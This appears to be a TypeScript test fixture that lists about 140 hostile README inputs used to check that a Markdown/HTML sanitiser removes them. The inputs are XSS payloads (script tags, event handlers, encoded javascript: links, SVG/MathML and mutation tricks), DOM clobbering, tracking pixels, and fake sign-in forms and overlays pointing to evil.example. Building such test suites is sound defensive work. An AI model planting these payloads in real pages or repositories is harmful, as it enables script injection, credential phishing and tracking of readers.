/** Spelled so that no linter takes a test for an attack. */
const JS = ['java', 'script:'].join('');
const EVIL = 'https://evil.example';
const HACK = 'window.hacked=true';

/**
 * READMEs that try to run, load, cover or replace something, by what they try it with. They are written for this test, by
 * the shapes that OWASP's cheat sheets and the sanitisers' own advisories describe.
 */
export const HOSTILE_READMES: Record<string, string> = {
  // Raw HTML that runs
  'a script': `<script>${HACK}</script>`,
  'a script from elsewhere': `<script src="${EVIL}/x.js"></script>`,
  'a script in capitals': `<SCRIPT>${HACK}</SCRIPT>`,
  'a script with a slash for a space': `<script/src="${EVIL}/x.js"></script>`,
  'a script that never ends': `<script>${HACK}`,
  'a script within a script': `<scr<script>ipt>${HACK}</scr</script>ipt>`,
  'a script in a paragraph': `text <script>${HACK}</script> text`,
  'a script after a null byte': `<scr\u0000ipt>${HACK}</scr\u0000ipt>`,
  'a module script': `<script type="module">${HACK}</script>`,
  'a script for those without scripts': `<noscript><p title="</noscript><img src=x onerror=${HACK}>"></noscript>`,

  // Event handlers
  'an image that fails': `<img src=x onerror=${HACK}>`,
  'an image that fails, with slashes': `<img/src=x/onerror=${HACK}>`,
  'an image that fails, in capitals': `<IMG SRC=x ONERROR=${HACK}>`,
  'an image that fails, over lines': `<img\nsrc=x\nonerror\n=\n"${HACK}">`,
  'an image that fails, unclosed': `<img src=x onerror=${HACK} //`,
  'an image with backticks': `<img src=\`x\` onerror=\`${HACK}\`>`,
  'an image with a doubled quote': `<img """><script>${HACK}</script>">`,
  'a handler on a div': `<div onclick="${HACK}" onmouseover="${HACK}">x</div>`,
  'a handler on details': `<details open ontoggle=${HACK}><summary>x</summary></details>`,
  'a handler that focuses itself': `<a id=x tabindex=1 onfocus=${HACK} autofocus>x</a>`,
  'a handler on an animation': `<p style="animation:x" onanimationstart="${HACK}">x</p>`,
  'a handler with a tab before it': `<b\tonmouseenter="${HACK}">x</b>`,
  'a handler on a table': `<table onload=${HACK}><tr><td onwheel=${HACK}>x</td></tr></table>`,
  'a handler on body': `<body onload=${HACK}>`,
  'a handler on a marquee': `<marquee onstart=${HACK}>x</marquee>`,

  // SVG and MathML
  'an SVG that loads': `<svg onload=${HACK}></svg>`,
  'an SVG with a script': `<svg><script>${HACK}</script></svg>`,
  'an SVG with a foreign object': `<svg><foreignObject><iframe srcdoc="<script>${HACK}</script>"></iframe></foreignObject></svg>`,
  'an SVG whose link is animated': `<svg><a><animate attributeName=href values=${JS}${HACK} /><text>x</text></a></svg>`,
  'an SVG that sets a link': `<svg><a xlink:href="${JS}${HACK}"><text>x</text></a></svg>`,
  'an SVG that uses another': `<svg><use href="${EVIL}/x.svg#a"></use><image href="${EVIL}/p.png"/></svg>`,
  'MathML with a link': `<math><maction actiontype="statusline#${EVIL}" xlink:href="${JS}${HACK}">x</maction></math>`,
  'MathML with a link of its own': `<math href="${JS}${HACK}">x</math>`,

  // Addresses that run
  'a link that runs': `<a href="${JS}${HACK}">x</a>`,
  'a link that runs, in Markdown': `[x](${JS}${HACK})`,
  'a link that runs, in capitals': `[x](JaVaScRiPt:${HACK})`,
  'a link that runs, after a space': `<a href=" ${JS}${HACK}">x</a>`,
  'a link that runs, after a control': `<a href="\u0001${JS}${HACK}">x</a>`,
  'a link with a tab in its scheme': `<a href="java\tscript:${HACK}">x</a>`,
  'a link with a line break in its scheme': `<a href="java\nscript:${HACK}">x</a>`,
  'a link with an encoded colon': `<a href="javascript&colon;${HACK}">x</a>`,
  'a link in decimal entities': `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${HACK}">x</a>`,
  'a link in hexadecimal entities': `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${HACK}">x</a>`,
  'a link in padded entities': `<a href="&#0000106avascript:${HACK}">x</a>`,
  'a link with an entity for a tab': `[x](java&Tab;script:${HACK})`,
  'a link with an entity for a line break': `[x](java&NewLine;script:${HACK})`,
  'a link in entities, in Markdown': `[x](&#x6A;avascript:${HACK})`,
  'a link that is escaped': `[x](javascript\\:${HACK})`,
  'a link in angle brackets': `[x](<${JS}${HACK}>)`,
  'an autolink that runs': `<${JS}${HACK}>`,
  'a reference that runs': `[x][1]\n\n[1]: ${JS}${HACK}`,
  'a collapsed reference that runs': `[x][]\n\n[x]: ${JS}${HACK}`,
  'a footnote that runs': `x[^1]\n\n[^1]: [y](${JS}${HACK})`,
  'a link to VBScript': '[x](vbscript:msgbox(1))',
  'a link to data': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'a link to a blob': '[x](blob:https://evil.example/1)',
  'a link to a file': '[x](file:///etc/passwd)',
  'a link to a view of the source': `[x](view-source:${EVIL})`,
  'an image that runs': `![x](${JS}${HACK})`,
  'an image of data': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Ii8+)',
  'an image by reference that runs': `![x][1]\n\n[1]: ${JS}${HACK}`,
  'a link whose title breaks out': `[x](${EVIL} "a\\" onmouseover=\\"${HACK}")`,
  'a link whose address breaks out': `[x](${EVIL}/"onmouseover="${HACK})`,
  'an image whose text breaks out': `![x" onerror="${HACK}](${EVIL}/p.png)`,
  'a quotation that runs': `<blockquote cite="${JS}${HACK}">x</blockquote><q cite="${JS}${HACK}">x</q>`,
  'a link that pings': `<a href="${EVIL}" ping="${EVIL}/ping">x</a>`,
  'a link that opens over the page': `<a href="${EVIL}" target="_top" rel="opener">x</a>`,
  'a link that downloads': `<a href="${EVIL}" download="x.exe">x</a>`,

  // Elements that load, send or replace
  'a style sheet': `<style>body{background:url(${EVIL}/p.png)}</style>`,
  'an imported style sheet': `<style>@import "${EVIL}/x.css";</style>`,
  'a linked style sheet': `<link rel="stylesheet" href="${EVIL}/x.css">`,
  'a preloaded resource': `<link rel="preload" as="image" href="${EVIL}/p.png">`,
  'a style that loads': `<p style="background:url(${EVIL}/p.png)">x</p>`,
  'a style that covers': `<div style="position:fixed;inset:0;z-index:9999"><a href="${EVIL}">Sign in again</a></div>`,
  'a style that computes': `<p style="width:expression(${HACK})">x</p>`,
  'a class that covers':
    '<div class="MuiBackdrop-root MuiDialog-root">x</div><code class="MuiBackdrop-root">x</code>',
  'a refresh': `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  'a policy': `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  'a base': `<base href="${EVIL}/" target="_blank">`,
  'a frame': `<iframe src="${EVIL}"></iframe>`,
  'a frame with a document': `<iframe srcdoc="<script>${HACK}</script>"></iframe>`,
  'a frame set': `<frameset><frame src="${EVIL}"></frameset>`,
  'an object': `<object data="${EVIL}/x.swf"><param name=movie value="${EVIL}/x.swf"></object>`,
  'an embedded one': `<embed src="${EVIL}/x.swf">`,
  'an applet': `<applet code="x" codebase="${EVIL}"></applet>`,
  'a portal': `<portal src="${EVIL}"></portal>`,
  'a form': `<form action="${EVIL}" method="post"><label>Password <input type="password" name="p"></label><button>Sign in</button></form>`,
  'a field of a form elsewhere': `<input type="text" form="search" formaction="${EVIL}">`,
  'a button that runs': `<button formaction="${JS}${HACK}" onclick="${HACK}">x</button>`,
  'an image as a field': `<ul><li><input type="image" src="${EVIL}/p.png"></li></ul>`,
  'a text area': `<textarea autofocus onfocus=${HACK}>x</textarea>`,
  'a choice': `<select onchange=${HACK}><option>x</option></select>`,
  'a dialog': `<dialog open><a href="${EVIL}">Sign in</a></dialog>`,
  'a popover': `<div popover id="p">x</div><button popovertarget="p">y</button>`,
  'a slot and a template': `<template shadowrootmode="open"><script>${HACK}</script></template><slot name="x"></slot>`,
  'an element of one’s own': `<x-evil is="x" onclick="${HACK}">x</x-evil>`,

  // Images and media that tell who reads
  'a tracking pixel': `![](${EVIL}/pixel.png)`,
  'a tracking pixel in HTML': `<img src="${EVIL}/pixel.png" width="1" height="1">`,
  'a tracking pixel without a scheme': '<img src="//evil.example/pixel.png">',
  'a tracking pixel with backslashes': '<img src="\\\\evil.example/pixel.png">',
  'a tracking pixel within a link': `[![ci](${EVIL}/badge.svg)](${EVIL})`,
  'a tracking pixel by reference': `![x][p]\n\n[p]: ${EVIL}/pixel.png`,
  'a tracking pixel behind a name':
    '![x](https://github.example@evil.example/org/strange/p.png)',
  'a tracking pixel on a host that looks alike':
    '![x](https://github.example.evil.example/org/strange/p.png)',
  'a tracking pixel on another port':
    '![x](https://github.example:8443/org/strange/p.png)',
  'a tracking pixel of another repository':
    '![x](https://github.example/org/other/../../evil/p.png)',
  'a source set': `<img src="docs/a.png" srcset="${EVIL}/2x.png 2x" sizes="100vw">`,
  'a picture': `<picture><source srcset="${EVIL}/p.webp" media="(min-width:1px)"><img src="${EVIL}/p.png"></picture>`,
  'a video': `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay><source src="${EVIL}/v.webm"><track src="${EVIL}/t.vtt"></video>`,
  'a sound': `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  'a background': `<table background="${EVIL}/p.png"><tr><td background="${EVIL}/p.png">x</td></tr></table>`,
  'a lower source': `<img lowsrc="${EVIL}/p.png" dynsrc="${EVIL}/p.avi" longdesc="${EVIL}">`,
  'a map': `<img src="docs/a.png" usemap="#m" ismap><map name="m"><area href="${JS}${HACK}" shape="rect" coords="0,0,9,9"></map>`,

  // Names of the page
  'ids of the page':
    '<p id="root">x</p><p id="location">x</p><a name="cookie" id="cookie">x</a>',
  'ids that clobber':
    '<a id="defaultView"></a><a id="defaultView" name="config" href="https://evil.example">x</a>',
  'a form that clobbers':
    '<form id="attributes"><input name="attributes"><input name="nodeName"></form>',
  'a heading that clobbers': '# location\n\n## __proto__\n\n### root',
  'a label for a field of the page':
    '<label for="search">x</label><p aria-labelledby="root" aria-describedby="root">y</p>',
  'an access key':
    '<a href="https://evil.example" accesskey="s" tabindex="-1">x</a>',
  'text that can be edited':
    '<div contenteditable="true" spellcheck="true">x</div>',
  'item properties':
    '<div itemscope itemtype="https://evil.example/x" itemprop="url">x</div>',

  // Shapes that mutate when they are parsed again
  'a mutation through math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HACK}&gt;">`,
  'a mutation through a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HACK}></form>`,
  'a mutation through svg': `<svg></p><style><a id="</style><img src=1 onerror=${HACK}>">`,
  'a mutation through noscript': `<noscript><style></noscript><img src=x onerror=${HACK}></style>`,
  'a mutation through a title': `<title><a title="</title><img src=x onerror=${HACK}>"></a></title>`,
  'a mutation through a comment': `<!--><img src=x onerror=${HACK}>-->`,
  'a mutation through a broken comment': `<!--a foo=--!><img src=x onerror=${HACK}><!--">`,
  'a mutation through CDATA': `<![CDATA[<img src=x onerror=${HACK}>]]>`,
  'a mutation through an instruction': `<?xml version="1.0"?><img src=x onerror=${HACK}?>`,
  'a mutation through a declaration': `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${HACK}>">]>&y;`,
  'a mutation through xmp': `<xmp><p title="</xmp><img src=x onerror=${HACK}>"></xmp>`,
  'a mutation through plaintext': `<plaintext><img src=x onerror=${HACK}>`,
  'a mutation through a select': `<select><style></select><img src=x onerror=${HACK}></style>`,
  'a mutation through a table': `<table><script>${HACK}</script><tr><td><img src=x onerror=${HACK}></table>`,

  // Markdown that hides HTML
  'HTML within emphasis': `**<img src=x onerror=${HACK}>**`,
  'HTML within a table': `| a |\n| --- |\n| <img src=x onerror=${HACK}> |`,
  'HTML within a heading': `# <img src=x onerror=${HACK}> title`,
  'HTML within a list': `- [ ] <input onfocus=${HACK} autofocus>`,
  'HTML after code that ends': `\`\`\`html\n<b>\n\`\`\`\n<img src=x onerror=${HACK}>`,
  'a language that breaks out': `\`\`\`"><img/src=x/onerror=${HACK}>\nx\n\`\`\``,
  'entities that become HTML': `&lt;img src=x onerror=${HACK}&gt;`,
  'HTML in the text of a link': `[<img src=x onerror=${HACK}>](${EVIL})`,
  'HTML in a footnote': `x[^a]\n\n[^a]: <img src=x onerror=${HACK}>`,
};
